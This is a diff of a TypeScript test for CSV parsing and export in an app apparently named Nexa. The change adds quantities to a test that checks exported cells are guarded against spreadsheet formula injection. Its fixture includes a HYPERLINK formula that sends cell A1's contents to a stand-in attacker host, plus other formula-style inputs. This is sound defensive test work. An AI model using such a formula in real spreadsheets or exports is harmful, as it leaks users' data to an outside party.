@@ -45,15 +45,15 @@ describe('parseCsv', () => {
     ]);
   });
 
-  it('gives back the text of an exported CSV whose cells Nexa guarded against formulas', () => {
-    const parts = [
+  it('gives back the text and quantities of an exported CSV whose cells Nexa guarded against formulas', () => {
+    const parts: Array<{ partnumber: string; description: string; manufacturer: string; quantity?: number }> = [
       { partnumber: '=HYPERLINK("HTTP://EVIL.EXAMPLE/?Q="&A1;"CLIQUE")', description: '=1+1', manufacturer: '@ACME' },
       { partnumber: '+5V-REG', description: '-10 °C a +85 °C', manufacturer: 'TI' },
       { partnumber: '-LM317T', description: 'Regulador\tajustável', manufacturer: 'ST' },
-      { partnumber: 'BC547', description: 'Transistor NPN', manufacturer: 'onsemi' },
+      { partnumber: 'BC547', description: 'Transistor NPN', manufacturer: 'onsemi', quantity: 1500.5 },
     ];
     const exported = parts.map((part, index) =>
-      toExportRow({ id: '22222222-2222-4222-8222-222222222222', seq: index + 1, ...part, supplier: null, quantity: null, status: 'queued', error: null, classification: null }),
+      toExportRow({ id: '22222222-2222-4222-8222-222222222222', seq: index + 1, supplier: null, status: 'queued', error: null, classification: null, ...part, quantity: part.quantity ?? null }),
     );
     const csv = buildCsv(exported);
     expect(csv).toContain(`;"'=HYPERLINK(`);
